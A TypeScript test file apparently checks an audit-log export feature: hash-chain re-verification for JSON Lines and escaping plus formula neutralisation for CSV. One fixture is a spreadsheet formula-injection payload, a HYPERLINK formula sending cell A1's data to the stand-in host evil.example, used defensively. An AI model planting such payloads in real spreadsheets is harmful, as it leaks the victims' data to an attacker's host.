// The audit export is what an auditor or a postmortem gets: every record, in JSON Lines that
// re-verify on their own, and in a CSV a spreadsheet opens safely.
import { describe, expect, it } from 'vitest';
import type { AuditRecord } from '../../shared/audit.ts';
import { GENESIS_HASH, hashRow } from '../../electron/core/audit/audit-log.ts';
import { csvRecords } from '../helpers/csv.ts';
import { useScratch } from '../helpers/scratch.ts';
import { auditRecords, confirmArgs, leverCase, planEngage, pull, startRig, value, type LeverRig } from '../helpers/platform.ts';

const scratch = useScratch();

const QUOTES_AND_NEWLINE = 'Ops said "stop, now"\nsecond line, with a comma';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const PLUS = '+91 call the bank, @treasury';

/** Four executions, one failing, with reasons a spreadsheet would trip on. */
async function history(rig: LeverRig): Promise<AuditRecord[]> {
  expect((await pull(rig, leverCase('brand-deposits-off'), 'engage', QUOTES_AND_NEWLINE)).status).toBe('verified');
  expect((await pull(rig, leverCase('halt-deposits'), 'engage', FORMULA)).status).toBe('verified');
  expect((await pull(rig, leverCase('provider-ingress-block'), 'engage', PLUS)).status).toBe('verified');
  const w = leverCase('brand-withdrawals-off');
  const plan = await planEngage(rig, w);
  await rig.control.setFaults([{ service: 'admin', method: 'PUT', path: w.path, mode: 'error500' }]);
  expect((await value(rig.core, 'levers.execute', confirmArgs(w, plan.planId, '-1 withdrawals, failing'))).status).toBe('failed');
  const all = await auditRecords(rig.core);
  expect(all).toHaveLength(8);
  return all;
}

/** The stored row an exported record came from, so its hash can be computed again. */
function rowOf(r: AuditRecord): Parameters<typeof hashRow>[0] {
  const json = (v: unknown) => (v === null || v === undefined ? null : JSON.stringify(v));
  return {
    seq: r.seq,
    at: r.at,
    kind: r.kind,
    execution_id: r.executionId,
    actor: r.actor,
    profile: r.profile,
    environment: r.environment,
    lever: r.lever,
    action: r.action,
    target: r.target,
    reason: r.reason,
    incident_id: r.incidentId,
    approved_by: r.approvedBy,
    before_json: json(r.before),
    request_json: json(r.request),
    response_json: json(r.response),
    after_json: json(r.after),
    outcome: r.outcome,
    detail: r.detail,
    prev_hash: r.prevHash,
  };
}

describe('audit export', () => {
  it('JSON Lines: every record, one per line, and the lines re-verify on their own', async () => {
    const rig = await startRig(scratch, { role: 'operator' });
    const stored = await history(rig);

    const out = await value(rig.core, 'audit.export', { format: 'jsonl' });

    expect(out.mimeType).toBe('application/x-ndjson');
    expect(out.filename).toMatch(/^switchyard-audit-integration-.*\.jsonl$/);
    expect(out.records).toBe(8);
    expect(out.verification).toMatchObject({ ok: true, checked: 8 });
    expect(out.content.endsWith('\n')).toBe(true);
    const lines = out.content.trimEnd().split('\n');
    expect(lines).toHaveLength(8);
    const exported = lines.map((l) => JSON.parse(l) as AuditRecord);
    expect(exported).toEqual(stored);

    let prev = GENESIS_HASH;
    for (const r of exported) {
      expect(r.prevHash).toBe(prev);
      expect(hashRow(rowOf(r))).toBe(r.hash);
      prev = r.hash;
    }
    // A line edited after export no longer hashes to what it claims.
    const forged = { ...exported[2]!, reason: 'routine check' };
    expect(hashRow(rowOf(forged))).not.toBe(forged.hash);
  });

  it('CSV: every record; quotes, newlines and commas escaped; formulas neutralised', async () => {
    const rig = await startRig(scratch, { role: 'operator' });
    const stored = await history(rig);

    const out = await value(rig.core, 'audit.export', { format: 'csv' });

    expect(out.mimeType).toBe('text/csv');
    expect(out.filename).toMatch(/\.csv$/);
    expect(out.records).toBe(8);
    expect(out.content).toContain('""stop, now""');
    const rows = csvRecords(out.content);
    expect(rows).toHaveLength(8);
    expect(rows.map((r) => Number(r.seq))).toEqual(stored.map((r) => r.seq));
    expect(rows.map((r) => r.hash)).toEqual(stored.map((r) => r.hash));
    expect(rows.map((r) => r.executionId)).toEqual(stored.map((r) => r.executionId));

    const reasons = rows.map((r) => r.reason);
    expect(reasons[0]).toBe(QUOTES_AND_NEWLINE);
    expect(reasons[2]).toBe(`'${FORMULA}`);
    expect(reasons[4]).toBe(`'${PLUS}`);
    expect(reasons[6]).toBe("'-1 withdrawals, failing");
    // No cell at all may start a formula.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Structured columns come back as the JSON they were.
    expect(JSON.parse(rows[1]!.request!)).toEqual(stored[1]!.request);
    expect(rows[7]!.outcome).toBe('failed');
  });

  it('an empty log exports an empty but valid file', async () => {
    const rig = await startRig(scratch);
    const jsonl = await value(rig.core, 'audit.export', { format: 'jsonl' });
    const csv = await value(rig.core, 'audit.export', { format: 'csv' });
    expect(jsonl).toMatchObject({ content: '', records: 0 });
    expect(csvRecords(csv.content)).toEqual([]);
    expect(csv.content.split('\r\n')[0]).toMatch(/^seq,at,kind,executionId/);
  });
});
